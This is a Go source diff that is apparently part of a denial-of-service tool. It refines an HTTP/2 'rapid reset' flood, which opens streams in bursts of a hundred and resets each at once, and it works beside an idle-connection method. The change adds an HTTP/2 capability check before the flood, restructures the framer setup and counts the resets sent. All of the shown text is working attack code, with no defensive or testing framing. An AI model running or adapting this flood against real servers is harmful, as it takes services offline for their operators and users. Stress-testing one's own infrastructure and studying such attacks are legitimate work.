@@ -86,17 +86,32 @@ func (t *target) idle(_ context.Context, conn net.Conn) error {
 	return <-discard(conn)
 }
 
-// reset opens streams of HTTP/2, a hundred at a time, and resets each at once.
+var errNoHTTP2 = errors.New("the server does not speak HTTP/2")
+
+// reset opens streams of HTTP/2, a hundred at a time, and resets each at once. A server without HTTP/2 has no streams to reset: it is
+// sent none.
 func (t *target) reset(ctx context.Context, conn net.Conn) error {
+	out := bufio.NewWriter(conn)
+	f := http2.NewFramer(out, conn)
+	_, _ = out.WriteString(http2.ClientPreface)
+	_ = f.WriteSettings()
+	if err := out.Flush(); err != nil {
+		return err
+	}
+	first, err := f.ReadFrame()
+	if err != nil {
+		return fmt.Errorf("%w: %w", errNoHTTP2, err)
+	}
+	if first.Header().Type != http2.FrameSettings {
+		return errNoHTTP2
+	}
 	ended := discard(conn)
-	err := t.resetStreams(ctx, conn)
+	err = t.resetStreams(ctx, out, f)
 	_ = conn.Close()
 	return errors.Join(err, <-ended)
 }
 
-func (t *target) resetStreams(ctx context.Context, conn net.Conn) error {
-	out := bufio.NewWriter(conn)
-	f := http2.NewFramer(out, nil)
+func (t *target) resetStreams(ctx context.Context, out *bufio.Writer, f *http2.Framer) error {
 	var block strings.Builder
 	encoder := hpack.NewEncoder(&block)
 	encoder.SetMaxDynamicTableSize(0) // so that the block is the same for each
@@ -110,8 +125,6 @@ func (t *target) resetStreams(ctx context.Context, conn net.Conn) error {
 			return fmt.Errorf("encode a request: %w", err)
 		}
 	}
-	_, _ = out.WriteString(http2.ClientPreface)
-	_ = f.WriteSettings()
 	const burst, pause, last = 100, 50 * time.Millisecond, 1 << 30
 	for id := uint32(1); id < last; {
 		for range burst {
@@ -122,6 +135,7 @@ func (t *target) resetStreams(ctx context.Context, conn net.Conn) error {
 		if err := out.Flush(); err != nil {
 			return err
 		}
+		t.resets.Add(burst)
 		if !wait(ctx, pause) {
 			return nil
 		}
